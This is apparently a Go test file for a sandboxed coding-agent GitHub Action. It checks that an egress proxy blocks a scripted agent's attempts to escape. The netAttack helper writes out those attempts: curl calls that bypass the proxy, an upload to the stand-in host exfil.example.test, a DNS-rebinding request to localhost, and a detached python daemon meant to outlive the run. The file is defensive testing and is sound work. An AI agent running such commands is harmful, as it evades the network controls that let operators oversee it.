package main

// The agent's network (issue 37): a scripted agent, and a verification command it wrote, try
// every way out of the sandbox through the whole action. Only the egress proxy answers; it lets
// the model and the hosts on the allow-list through, blocks the rest, and every block is on the
// status comment with the command that tried it.

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/codex-studio/studio-action/internal/fakecodex"
	"github.com/codex-studio/studio-action/internal/npmregistry"
	"github.com/codex-studio/studio-action/internal/sandbox"
)

// listener is a server of the test on the host's loopback. It answers each request with body
// and counts connections; hold keeps each connection open until its client closes it.
type listener struct {
	addr           string
	opened, closed atomic.Int32
}

func newListener(t *testing.T, body string, hold bool) *listener {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	l := &listener{addr: ln.Addr().String()}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			l.opened.Add(1)
			go func() {
				defer l.closed.Add(1)
				defer c.Close()
				if hold {
					_, _ = io.Copy(io.Discard, c) // until the client's end is gone
					return
				}
				buf := make([]byte, 4096)
				_, _ = c.Read(buf)
				fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(body), body)
			}()
		}
	}()
	return l
}

func (l *listener) port() string { _, p, _ := net.SplitHostPort(l.addr); return p }

// netAttack is what the agent (or its verification) runs: each attempt prints a word saying how
// it ended, and a daemon keeps a connection to hold open as long as it lives.
func netAttack(anywhere, mirror, hold *listener) string {
	return fmt.Sprintf(`
curl -s --noproxy '*' --max-time 5 http://%[1]s/ && echo DIRECT-REACHED || echo direct-refused
curl -s --noproxy '' --max-time 5 -x "$HTTP_PROXY" http://exfil.example.test/upload; echo
curl -s --noproxy '' --max-time 5 -x "$HTTP_PROXY" http://localhost:%[4]s/rebind; echo
curl -s --noproxy '' --max-time 5 -x "$HTTP_PROXY" http://127.0.0.1:%[4]s/literal; echo
curl -s --max-time 5 http://%[2]s/pkg; echo
(setsid python3 -c 'import socket,time; s=socket.create_connection(("127.0.0.1", %[5]s)); time.sleep(600)' >/dev/null 2>&1 </dev/null &)
for i in 1 2 3 4 5 6 7 8 9 10; do sleep 0.2; done
echo network-tried
`, anywhere.addr, mirror.addr, hold.addr, anywhere.port(), hold.port())
}

// TestAgentReachesOnlyTheModelAndAllowedHosts: the scripted agent, and then a verification
// script the agent wrote, each try the host directly, a host off the list, an allowed name that
// resolves to loopback (DNS rebinding), the address behind that name, and a mirror on the list,
// and leave a daemon holding a connection. Nothing but the mirror is reached, each block is on
// the status comment with its command, and the daemon's connection is gone after the run.
func TestAgentReachesOnlyTheModelAndAllowedHosts(t *testing.T) {
	requireRoot(t)
	if _, err := exec.LookPath("curl"); err != nil {
		t.Fatal("curl is not installed: scripts/test installs it so that the network attacks are real")
	}
	for _, by := range []string{"agent", "verification"} {
		t.Run(by, func(t *testing.T) {
			w := newWorld(t, nil)
			anywhere := newListener(t, "reached-anywhere", false)
			mirror := newListener(t, "mirror-ok", false)
			hold := newListener(t, "", true)
			attack := netAttack(anywhere, mirror, hold)
			call := fakecodex.Call{Edits: []fakecodex.Edit{{Write: "src/player/jump.gd", Content: "x\n"}}}
			body := "Make the jump feel snappier.\n\n```studio\nrole: gameplay-programmer\nwriteFiles: [src/player/jump.gd, tests/net.sh]\n"
			if by == "agent" {
				call.Shell = attack
			} else {
				call.Edits = append(call.Edits, fakecodex.Edit{Write: "tests/net.sh", Content: attack})
				body += "verify: {command: sh, args: [tests/net.sh]}\n"
			}
			body += "```\n"
			n := w.issue("Jump", body)
			_, payload := w.comment(n, sandbox.Writer, "/studio run")
			w.script(call)
			res := w.run("issue_comment", payload, map[string]string{
				"INPUT_MAX-FIX-PASSES": "0",
				// A name that resolves to loopback, and two mirrors on the runner.
				"INPUT_ALLOW-HOSTS": fmt.Sprintf("localhost:%s, %s, %s", anywhere.port(), mirror.addr, hold.addr),
			})
			if res.code != 0 || res.outputs["status"] != "done" {
				t.Fatalf("exit %d status %q\n%s", res.code, res.outputs["status"], res.stdout)
			}
			var said string
			if by == "agent" {
				said = stepStderr(t, w, "implementation")
			} else {
				said = w.botComments(n)[0].Body
			}
			if !strings.Contains(said, "network-tried") || !strings.Contains(said, "mirror-ok") {
				t.Fatalf("control: the attack did not run to its end, or the mirror on the list was not reached:\n%s", said)
			}
			if strings.Contains(said, "DIRECT-REACHED") || strings.Contains(said, "reached-anywhere") || anywhere.opened.Load() != 0 {
				t.Errorf("the %s reached a host off the list (%d connections):\n%s", by, anywhere.opened.Load(), said)
			}
			status := w.botComments(n)[0].Body
			for _, want := range []string{
				"**Network: 3 connections blocked.**",
				"exfil.example.test:80 by: curl",
				"localhost:" + anywhere.port() + " by: curl",
				"rebinding",
				"127.0.0.1:" + anywhere.port() + " by: curl",
				"an address passes only an entry that names it",
				"To allow a host, add it to the `allow-hosts` input",
				"**Network:** the model and 4 allowed hosts", // and the fake Codex's control server
			} {
				if !strings.Contains(status, want) {
					t.Errorf("the status comment lacks %q:\n%s", want, status)
				}
			}
			// The evidence counts them too.
			matches, _ := filepath.Glob(filepath.Join(w.RunnerTemp, "studio-runs", "*", "network.json"))
			if len(matches) != 1 {
				t.Fatalf("network.json in the evidence: %v", matches)
			}
			var ev struct {
				Blocked int            `json:"blocked"`
				Allowed map[string]int `json:"allowed"`
			}
			if err := json.Unmarshal([]byte(mustRead(t, matches[0])), &ev); err != nil || ev.Blocked != 3 || ev.Allowed[mirror.addr] < 1 {
				t.Errorf("network.json: %+v (%v)\n%s", ev, err, mustRead(t, matches[0]))
			}
			// The daemon's connection went through the proxy, and ended with the call.
			if hold.opened.Load() != 1 {
				t.Fatalf("control: the daemon did not connect (%d)", hold.opened.Load())
			}
			deadline := time.Now().Add(10 * time.Second)
			for hold.closed.Load() != 1 && time.Now().Before(deadline) {
				time.Sleep(20 * time.Millisecond)
			}
			if hold.closed.Load() != 1 {
				t.Errorf("a connection the %s opened outlived the run", by)
			}
		})
	}
}

// TestVerificationFailedAfterABlockSaysSo: a verification that fails because its host is off the
// list is told that the block may be the cause and how to allow the host.
func TestVerificationFailedAfterABlockSaysSo(t *testing.T) {
	requireRoot(t)
	w := newWorld(t, nil)
	body := "Fetch the assets.\n\n```studio\nrole: gameplay-programmer\nwriteFiles: [src/player/jump.gd]\nverify: {command: curl, args: [-sf, --max-time, '5', 'https://assets.example.test/pack.zip']}\n```\n"
	n := w.issue("Assets", body)
	_, payload := w.comment(n, sandbox.Writer, "/studio run")
	w.script(fakecodex.Call{Edits: []fakecodex.Edit{{Write: "src/player/jump.gd", Content: "x\n"}}})
	res := w.run("issue_comment", payload, map[string]string{"INPUT_MAX-FIX-PASSES": "0"})
	if res.outputs["status"] != "blocked" {
		t.Fatalf("status %q; want blocked by the failed verification\n%s", res.outputs["status"], res.stdout)
	}
	status := w.botComments(n)[0].Body
	for _, want := range []string{"assets.example.test:443 by: /usr/bin/curl -sf", "The verification failed after a block: the block may be the cause."} {
		if !strings.Contains(status, want) {
			t.Errorf("the status comment lacks %q:\n%s", want, status)
		}
	}
}

// TestNetworkModesAreSaidOutLoud: open is said on the status comment and reaches a host off the
// list directly; model-only passes the model alone, so even the fake Codex's control server, a
// mirror on the list, is blocked (the run cannot get its call) and the block names it.
func TestNetworkModesAreSaidOutLoud(t *testing.T) {
	requireRoot(t)
	t.Run("open", func(t *testing.T) {
		w := newWorld(t, nil)
		anywhere := newListener(t, "reached-anywhere", false)
		n := w.issue("Jump", taskBody)
		_, payload := w.comment(n, sandbox.Writer, "/studio run")
		w.script(fakecodex.Call{Edits: []fakecodex.Edit{{Write: "src/player/jump.gd", Content: "x\n"}},
			Shell: fmt.Sprintf(`curl -s --noproxy '*' --max-time 5 http://%s/; echo`, anywhere.addr)})
		res := w.run("issue_comment", payload, map[string]string{"INPUT_MAX-FIX-PASSES": "0", "INPUT_NETWORK": "open"})
		status := w.botComments(n)[0].Body
		if res.outputs["status"] != "done" || !strings.Contains(status, "**Network open:**") {
			t.Fatalf("status %q; the status comment must say the network is open:\n%s", res.outputs["status"], status)
		}
		if anywhere.opened.Load() != 1 {
			t.Errorf("open: the host was reached %d times; want 1", anywhere.opened.Load())
		}
	})
	t.Run("uid jail", func(t *testing.T) {
		w := newWorld(t, nil)
		n := w.issue("Jump", taskBody)
		_, payload := w.comment(n, sandbox.Writer, "/studio run")
		w.script(fakecodex.Call{Edits: []fakecodex.Edit{{Write: "src/player/jump.gd", Content: "x\n"}}})
		res := w.run("issue_comment", payload, map[string]string{"INPUT_MAX-FIX-PASSES": "0", "INPUT_AGENT-SANDBOX": "off"})
		if status := w.botComments(n)[0].Body; res.outputs["status"] != "done" || !strings.Contains(status, "**Network not confined:**") {
			t.Fatalf("status %q; the uid jail must say it cannot confine the network:\n%s", res.outputs["status"], status)
		}
	})
	t.Run("model-only", func(t *testing.T) {
		w := newWorld(t, nil)
		n := w.issue("Jump", taskBody)
		_, payload := w.comment(n, sandbox.Writer, "/studio run")
		w.script(fakecodex.Call{Edits: []fakecodex.Edit{{Write: "src/player/jump.gd", Content: "x\n"}}})
		res := w.run("issue_comment", payload, map[string]string{"INPUT_MAX-FIX-PASSES": "0", "INPUT_NETWORK": "model-only"})
		status := w.botComments(n)[0].Body
		for _, want := range []string{"**Network:** model only", w.codex.Addr() + " by: ", "the run's network is model-only"} {
			if !strings.Contains(status, want) {
				t.Errorf("status %q; the status comment lacks %q:\n%s", res.outputs["status"], want, status)
			}
		}
		if res.outputs["status"] == "done" {
			t.Errorf("model-only: the fake Codex reached its control server")
		}
	})
}

// TestNpmInstallsFromAMirrorOnTheAllowList: the verification runs `npm install` of a package
// from a registry stand-in on the runner's loopback, on the allow-list: it installs, in the
// sandbox, through the egress proxy.
func TestNpmInstallsFromAMirrorOnTheAllowList(t *testing.T) {
	requireRoot(t)
	if _, err := exec.LookPath("npm"); err != nil {
		t.Fatal("npm is not installed: scripts/test installs it")
	}
	w := newWorld(t, nil)
	reg := npmregistry.Start()
	t.Cleanup(reg.Close)
	addr := strings.TrimPrefix(reg.URL, "http://")
	script := fmt.Sprintf(`set -e
npm install --registry %[1]s --no-audit --no-fund --no-package-lock --loglevel=error %[2]s
node -e 'console.log("padded:" + require("%[2]s")("x", 4))'
`, reg.URL, npmregistry.Package)
	body := "Pad things.\n\n```studio\nrole: gameplay-programmer\nwriteFiles: [src/player/jump.gd, tests/npm.sh]\nverify: {command: sh, args: [tests/npm.sh]}\n```\n"
	n := w.issue("Pad", body)
	_, payload := w.comment(n, sandbox.Writer, "/studio run")
	w.script(fakecodex.Call{Edits: []fakecodex.Edit{{Write: "src/player/jump.gd", Content: "x\n"}, {Write: "tests/npm.sh", Content: script}}})
	res := w.run("issue_comment", payload, map[string]string{"INPUT_MAX-FIX-PASSES": "0", "INPUT_ALLOW-HOSTS": addr})
	status := w.botComments(n)[0].Body
	if res.outputs["status"] != "done" || reg.Tarballs() != 1 {
		t.Fatalf("status %q, %d tarball downloads:\n%s\n%s", res.outputs["status"], reg.Tarballs(), status, res.stdout)
	}
	if strings.Contains(status, "blocked.**") {
		t.Errorf("the install was blocked somewhere:\n%s", status)
	}
}
